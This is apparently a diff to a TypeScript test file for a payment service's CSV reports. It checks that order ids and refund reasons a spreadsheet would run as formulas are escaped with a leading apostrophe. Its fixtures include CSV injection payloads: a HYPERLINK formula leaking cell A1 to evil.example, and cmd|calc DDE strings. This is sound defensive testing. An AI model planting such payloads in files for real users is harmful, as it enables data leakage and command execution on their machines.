@@ -5,7 +5,10 @@
  * page (over 1,000 charges, more than two of the report's own 500-row pages), as RFC 4180 CSV with the
  * amounts in units and with the decimal point and the settlement's transaction and block. Another
  * merchant's charges never appear; bad filters are problems, never a 500. `refunds.csv` equals the
- * refunds API (refunds paid on anvil by the merchant's wallet), with its own filters.
+ * refunds API (refunds paid on anvil by the merchant's wallet), with its own filters. Issue 38 item 5:
+ * merchant text that a spreadsheet would run as a formula (an orderId, a refund reason starting with
+ * `=`, `+`, `-`, `@`) is written with an apostrophe in front, and only that text; the documented way back
+ * (drop one leading apostrophe) gives the API's rows again.
  */
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
@@ -25,6 +28,15 @@ let decimals: number
 const base = new Date('2026-03-01T00:00:00Z')
 let paid: any
 let quoted: any
+/** Order ids a spreadsheet would run as formulas (OWASP's CSV injection examples), and one that starts with the escape itself. */
+const FORMULA_ORDER_IDS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Your receipt")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "'=1+1",
+]
+let formulas: any[]
 
 before(async () => {
   f = await startCheckoutFixture({ CONFIRMATION_BLOCKS: '0' })
@@ -46,11 +58,15 @@ before(async () => {
   }
   await f.createCharge(other)
   quoted = await f.createCharge(merchant, { orderId: 'a,"b" ü' })
+  formulas = []
+  for (const orderId of FORMULA_ORDER_IDS) formulas.push(await f.createCharge(merchant, { orderId }))
   paid = await f.createCharge(merchant)
   await f.pay(paid)
   paid = await f.waitForStatus(merchant, paid.id, 'settled')
 })
 after(() => f?.stop())
+
+const API_CHARGES = BULK + 2 + FORMULA_ORDER_IDS.length
 
 /** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; records end with CRLF. */
 function parseCsv(text: string): string[][] {
@@ -74,6 +90,22 @@ function parseCsv(text: string): string[][] {
   }
   assert.equal(field + record.join(''), '', 'the last record ends with CRLF')
   return records
+}
+
+/** The documented way back from a report's cell to the API's text: drop one leading apostrophe. */
+const cellText = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell)
+
+/**
+ * What a spreadsheet user relies on: no cell starts as a formula would (a plain number aside), and the
+ * apostrophe that prevents it is only ever in the columns of merchant text, never in a number's.
+ */
+function assertNoFormulas(header: string[], rows: string[][], textColumns: string[]) {
+  for (const row of rows) {
+    row.forEach((cell, i) => {
+      assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `${header[i]}: ${cell}`)
+      if (cell.startsWith("'")) assert.ok(textColumns.includes(header[i]!), `an apostrophe in ${header[i]}: ${cell}`)
+    })
+  }
 }
 
 const withPoint = (units: string) => {
@@ -104,15 +136,16 @@ async function allPages(query: string, limit = 100): Promise<any[]> {
 async function report(query = '', credentials = merchant.credentials) {
   const answer = await f.request(credentials, 'GET', `/api/v1/reports/charges.csv${query && `?${query}`}`)
   assert.equal(answer.status, 200, String(answer.body))
-  const [header, ...rows] = parseCsv(answer.body)
+  const [header, ...raw] = parseCsv(answer.body)
   assert.deepEqual(header, COLUMNS)
-  return { rows, headers: answer.headers }
+  assertNoFormulas(header!, raw, ['orderId'])
+  return { rows: raw.map((row) => row.map(cellText)), raw, headers: answer.headers }
 }
 
 describe('charges.csv', () => {
   test('equals the charges API page by page, over several of its own pages', async () => {
     const listed = await allPages('')
-    assert.equal(listed.length, BULK + 2)
+    assert.equal(listed.length, API_CHARGES)
     const { rows, headers } = await report()
     assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
     assert.equal(headers.get('content-disposition'), 'attachment; filename="charges.csv"')
@@ -138,6 +171,17 @@ describe('charges.csv', () => {
     assert.deepEqual((await report(`orderId=${encodeURIComponent(quoted.orderId)}`)).rows.map((r) => r[3]), ['a,"b" ü'])
   })
 
+  test('an orderId a spreadsheet would run as a formula is written with an apostrophe in front; dropping it gives the API’s row', async () => {
+    for (const charge of formulas) {
+      const { rows, raw } = await report(`orderId=${encodeURIComponent(charge.orderId)}`)
+      assert.equal(raw.length, 1, charge.orderId)
+      assert.equal(raw[0]![3], `'${charge.orderId}`)
+      assert.deepEqual(rows[0], asRecord((await f.request(merchant.credentials, 'GET', `/api/v1/charges/${charge.id}`)).body))
+    }
+    const text = (await f.request(merchant.credentials, 'GET', `/api/v1/reports/charges.csv?orderId=${encodeURIComponent(FORMULA_ORDER_IDS[0]!)}`)).body
+    assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Your receipt"")",`), text)
+  })
+
   test('never shows another merchant’s charges', async () => {
     const { rows } = await report('', other.credentials)
     assert.equal(rows.length, 1)
@@ -158,7 +202,7 @@ describe('filters, on the listing and the report alike', () => {
     await agree(`from=${new Date(base.getTime() + 100_000).toISOString()}&to=${new Date(base.getTime() + 200_000).toISOString()}`, (c) => /^bulk-(1\d\d)$/.test(c.orderId), 100)
     await agree(`from=2026-03-01T00:10:00%2B00:10&to=2026-03-01T00:00:05Z`, (c) => /^bulk-[0-4]$/.test(c.orderId), 5)
     await agree('to=2026-03-01', () => false, 0)
-    await agree('from=2026-03-02', (c) => !c.orderId.startsWith('bulk-'), 2)
+    await agree('from=2026-03-02', (c) => !c.orderId.startsWith('bulk-'), API_CHARGES - BULK)
   })
 
   test('beneficiary (any case), orderId, status, paymentLinkId, and together', async () => {
@@ -205,14 +249,16 @@ describe('refunds.csv', () => {
     r.orderReference, r.deadline, r.settlement?.txHash ?? '', String(r.settlement?.blockNumber ?? ''), String(r.settlement?.logIndex ?? ''), String(r.settlement?.confirmations ?? ''),
   ]
   let refunds: any[] = []
+  const FORMULA_REASON = '=HYPERLINK("http://evil.example/refund","Refund approved: open")'
 
   async function refundReport(query = '') {
     const answer = await f.request(merchant.credentials, 'GET', `/api/v1/reports/refunds.csv${query && `?${query}`}`)
     assert.equal(answer.status, 200, String(answer.body))
     assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="refunds.csv"')
-    const [header, ...rows] = parseCsv(answer.body)
+    const [header, ...raw] = parseCsv(answer.body)
     assert.deepEqual(header, REFUND_COLUMNS)
-    return rows
+    assertNoFormulas(header!, raw, ['orderId', 'reason'])
+    return raw.map((row) => row.map(cellText))
   }
   const read = async (id: string) => (await f.request(merchant.credentials, 'GET', `/api/v1/refunds/${id}`)).body
 
@@ -228,7 +274,7 @@ describe('refunds.csv', () => {
     const first = await ask(paid.id, { amount: '3000000', reason: 'returned, "as new", one item' })
     await f.pay({ ...first, beneficiary: first.recipient }, { payerKey: merchantWalletKey })
     await waitFor('the refund to settle', async () => (await read(first.id)).status === 'settled')
-    await ask(paid.id, { amount: '2000000' })
+    await ask(paid.id, { amount: '2000000', reason: FORMULA_REASON })
     const other = await f.createCharge(merchant, { beneficiary: f.chain.deployment.recipients[0]! })
     await f.pay(other)
     await f.waitForStatus(merchant, other.id, 'settled')
@@ -246,6 +292,13 @@ describe('refunds.csv', () => {
     assert.deepEqual(refunds.filter((r) => r.chargeId === paid.id), viaCharge)
     const charge = (await report(`orderId=${encodeURIComponent(paid.orderId)}`)).rows[0]!
     assert.deepEqual([charge[1], charge[15], charge[16]], ['partially-refunded', '3000000', withPoint('3000000')])
+  })
+
+  test('a reason a spreadsheet would run as a formula is written with an apostrophe in front', async () => {
+    const answer = await f.request(merchant.credentials, 'GET', '/api/v1/reports/refunds.csv?refundStatus=awaiting-signature')
+    assert.ok(answer.body.includes(`,"'=HYPERLINK(""http://evil.example/refund"",""Refund approved: open"")",`), answer.body)
+    const withReason = (await refundReport()).filter((row) => row[16] === FORMULA_REASON)
+    assert.equal(withReason.length, 1)
   })
 
   test('filters by refund status and creation time, and by the charge: its id, order id and beneficiary', async () => {
